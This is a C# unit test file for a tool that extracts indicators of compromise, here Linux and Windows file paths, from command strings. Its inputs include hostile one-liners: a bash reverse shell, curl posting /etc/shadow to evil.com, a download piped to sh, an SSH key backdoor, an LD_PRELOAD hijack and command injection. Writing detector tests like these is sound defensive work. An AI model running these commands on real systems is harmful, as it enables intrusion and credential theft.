using B64Hunt.Iocs;
using Xunit;
using static B64Hunt.Tests.Iocs.IocTestSupport;

namespace B64Hunt.Tests.Iocs
{
    public class PathExtractionTests
    {
        [Theory]
        [InlineData("cat /etc/passwd", "/etc/passwd")]
        [InlineData("python -c 'pty.spawn(\"/tmp/x\")'", "/tmp/x")]
        [InlineData("os.system(\"/tmp/x\")", "/tmp/x")]
        [InlineData("ls [/tmp/x]", "/tmp/x")]
        [InlineData("echo {/tmp/x}", "/tmp/x")]
        [InlineData("cat /tmp/x|sh", "/tmp/x")]
        [InlineData("cat /tmp/x;id", "/tmp/x")]
        [InlineData("cat /tmp/x&&id", "/tmp/x")]
        [InlineData("cat </tmp/x>/tmp/y", "/tmp/x")]
        [InlineData("echo see /tmp/x.", "/tmp/x")]
        [InlineData("cp a /dev/shm/x", "/dev/shm/x")]
        [InlineData("echo key >> ~/.ssh/authorized_keys", "~/.ssh/authorized_keys")]
        [InlineData("dd if=/dev/sda of=/tmp/disk.img", "/tmp/disk.img")]
        [InlineData("#!/bin/bash\ncurl -s http://example.top/x|sh", "/bin/bash")]
        [InlineData("#!/usr/bin/env python3\nimport os", "/usr/bin/env")]
        [InlineData("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "/dev/tcp/1.2.3.4/4444")]
        [InlineData("python -c \"u='/tmp/.x/upload'\"", "/tmp/.x/upload")]
        [InlineData("python -c \"u='/.cache/x'\"", "/.cache/x")]
        [InlineData("cat '/opt/app/secret.key'", "/opt/app/secret.key")]
        [InlineData("export LD_PRELOAD=/tmp/.x/libx.so", "/tmp/.x/libx.so")]
        [InlineData("curl -d @/etc/shadow http://evil.com/", "/etc/shadow")]
        public void PathsAreFoundWhereAPathStandsAndCutAtSyntax(string text, string path)
        {
            Single(text, IocTypeNames.LinuxPath, path);
        }

        [Fact]
        public void APathInsideAQuotedCallIsCutBeforeQuoteAndParenthesis()
        {
            Assert.Equal(new[] { "/tmp/x" }, Of("os.system(\"/tmp/x\")", IocTypeNames.LinuxPath));
            Assert.Equal(new[] { "/tmp/x" }, Of("exec('/tmp/x')", IocTypeNames.LinuxPath));
        }

        [Theory]
        [InlineData("echo //www.example.com/a")]
        [InlineData("curl http://www.example.com/a/b")]
        [InlineData("echo a/b/c")]
        [InlineData("echo x/tmp/y")]
        [InlineData("cmd > /dev/null 2>&1")]
        [InlineData("cat /dev/zero /dev/stdin /dev/stdout /dev/stderr /dev/fd/3 /dev/urandom")]
        [InlineData("cd /")]
        [InlineData("echo //")]
        [InlineData("./install.sh")]
        [InlineData("../../bin/busybox")]
        [InlineData("cd ./.x && ./run")]
        [InlineData("export PATH=/tmp/bin:/usr/bin")]
        [InlineData("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; id")]
        [InlineData("python -c \"import requests; u='/api/upload.php'; requests.post(h + u)\"")]
        [InlineData("node -e \"fetch('/v1/keys')\"")]
        [InlineData("echo \"#!\"")]
        [InlineData(@"cmd.exe /c C:\x\a.exe /q")]
        public void NonIndicatorPathsAndPiecesOfUrlsAreNotPaths(string text)
        {
            Assert.Empty(Of(text, IocTypeNames.LinuxPath));
        }

        [Fact]
        public void SchemelessUrlHostIsStillADomain()
        {
            Single("echo //www.example.com/a", IocTypeNames.Dns, "www.example.com");
        }

        [Theory]
        [InlineData(@"cmd.exe /c C:\Windows\Temp\x.exe", @"C:\Windows\Temp\x.exe")]
        [InlineData(@"wine ""C:\Users\Public\a.exe""", @"C:\Users\Public\a.exe")]
        [InlineData(@"copy \\fileserver\share\drop\a.ps1 .", @"\\fileserver\share\drop\a.ps1")]
        [InlineData(@"echo 'C:\ProgramData\x.dll'", @"C:\ProgramData\x.dll")]
        [InlineData(@"start ""C:\Program Files (x86)\App\a.exe"" -q", @"C:\Program Files (x86)\App\a.exe")]
        [InlineData(@"cmd /c ""C:\Users\a b\x.bat & whoami""", @"C:\Users\a b\x.bat")]
        [InlineData(@"cmd /c C:\x\a.bat&whoami", @"C:\x\a.bat")]
        public void WindowsPathsAreFoundAndCutAtQuotes(string text, string path)
        {
            Single(text, IocTypeNames.WindowsPath, path);
        }

        [Fact]
        public void EscapedWindowsPathsAreNormalised()
        {
            var ioc = Single(@"{""path"":""C:\\Windows\\System32\\evil.dll""}", IocTypeNames.WindowsPath, @"C:\Windows\System32\evil.dll");
            Assert.Equal(@"C:\\Windows\\System32\\evil.dll", ioc.Value);
        }

        [Theory]
        [InlineData(@"echo C:\")]
        [InlineData(@"echo abc:\x")]
        [InlineData(@"echo \\\\")]
        public void NonWindowsPathsAreNotReported(string text)
        {
            Assert.Empty(Of(text, IocTypeNames.WindowsPath));
        }
    }
}
